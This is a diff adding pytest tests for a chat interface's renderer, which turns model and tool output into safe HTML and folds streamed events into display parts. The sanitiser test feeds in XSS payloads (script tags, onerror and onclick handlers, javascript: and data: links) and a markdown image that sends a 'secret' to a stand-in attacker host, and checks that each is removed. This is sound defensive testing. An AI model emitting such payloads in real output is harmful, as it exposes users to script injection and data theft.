@@ -1,0 +1,108 @@
+"""What a model or a tool says becomes HTML that does no harm."""
+
+from uuid import uuid4
+
+import pytest
+
+from chat.events import Event
+from chat.parts import CallCard, Ending, Found, TurnView, Words
+from chat.rendering import changes_html, markdown
+from chat.value_tree import value_tree
+
+
+@pytest.mark.parametrize(
+    ("text", "gone"),
+    [
+        ("<script>alert(1)</script>", "<script"),
+        ("<img src=x onerror=alert(1)>", "<img"),
+        ("![x](https://evil.example/?q=secret)", "<img"),
+        ("[x](javascript:alert(1))", 'javascript:alert(1)"'),
+        ("[x](data:text/html;base64,PHNjcmlwdD4=)", 'href="data:'),
+        ("<a href='x' onclick='y'>z</a>", "<a"),
+        ("<style>*{}</style>", "<style"),
+    ],
+)
+def test_markdown_can_do_no_harm(text, gone):
+    assert gone not in markdown(text)
+
+
+def test_markdown_keeps_what_answers_are_made_of():
+    html = markdown("# T\n\n- **a** `b`\n\n| x |\n|---|\n| 1 |\n\n[l](https://example.org)")
+    for part in ("<h1>", "<strong>a</strong>", "<code>b</code>", "<table>", "nofollow"):
+        assert part in html
+
+
+def test_a_value_becomes_a_tree_with_its_text_escaped():
+    html = value_tree({"a": ["<b>", 1, None, True], "empty": {}})
+    assert "&lt;b&gt;" in html
+    assert "<b>" not in html
+    for part in ("2 fields", "4 items", "null", "true", "empty object"):
+        assert part in html
+
+
+def test_a_deep_or_long_value_is_cut_instead_of_growing_without_end():
+    deep: list = []
+    for _ in range(500):
+        deep = [deep]
+    assert len(value_tree(deep)) < 5_000
+    assert "… 800 more" in value_tree(list(range(1_000)))
+
+
+def told(*events: tuple[str, dict]) -> TurnView:
+    view = TurnView(uuid4())
+    for number, (name, data) in enumerate(events, start=1):
+        view.apply(Event(number, name, data))
+    return view
+
+
+def test_events_fold_into_parts_in_order():
+    view = told(
+        ("turn.started", {"model": "m"}),
+        ("tools.found", {"query": "q", "tools": [{"name": "a", "injected": True}]}),
+        ("text.delta", {"text": "Let "}),
+        ("text.delta", {"text": "me."}),
+        ("tool.call", {"id": "1", "name": "a", "arguments": '{"x": 1}'}),
+        ("tool.progress", {"id": "1", "message": "Going", "step": 1, "run": "r"}),
+        ("tool.progress", {"id": "1", "message": "Gone", "step": 1, "run": "r"}),
+        ("tool.result", {"id": "1", "status": "succeeded", "output": 2, "duration_ms": 3}),
+        ("text.delta", {"text": "Two."}),
+        ("turn.completed", {"status": "completed", "usage": {}}),
+    )
+    found, first, card, last = view.parts
+    assert isinstance(found, Found)
+    assert isinstance(card, CallCard)
+    assert isinstance(first, Words)
+    assert isinstance(last, Words)
+    assert (first.text, first.busy, last.text, last.busy) == ("Let me.", False, "Two.", False)
+    assert card.arguments == {"x": 1}
+    assert [step["message"] for step in card.steps] == ["Gone"]
+    assert (card.status, card.output, card.duration_ms, card.run_id) == ("succeeded", 2, 3, "r")
+    assert view.over
+
+
+def test_a_stop_shows_what_was_left_running():
+    view = told(
+        ("tool.call", {"id": "1", "name": "a", "arguments": "{"}),
+        ("turn.completed", {"status": "stopped", "usage": {}}),
+    )
+    card, ending = view.parts
+    assert isinstance(card, CallCard)
+    assert isinstance(ending, Ending)
+    assert card.status == "stopped"
+    assert card.arguments == "{", "arguments that are no JSON are shown as they came"
+
+
+def test_a_card_under_a_readers_eyes_keeps_its_frame():
+    view = told(("tool.call", {"id": "1", "name": "a", "arguments": "{}"}))
+    result = {"id": "1", "status": "succeeded", "output": 2, "duration_ms": 3}
+    html = changes_html(view, view.apply(Event(2, "tool.result", result)))
+    assert '<details class="tool-card' not in html
+    assert f'id="{view.parts[0].id}-state" hx-swap-oob="true"' in html
+
+
+def test_an_error_of_the_turn_says_what_happened_and_what_to_do():
+    view = told()
+    error = {"code": "x", "message": "It broke.", "hint": "Mend it.", "extra": {}}
+    html = changes_html(view, view.apply(Event(1, "turn.failed", {"error": error})))
+    assert "It broke." in html
+    assert "Mend it." in html
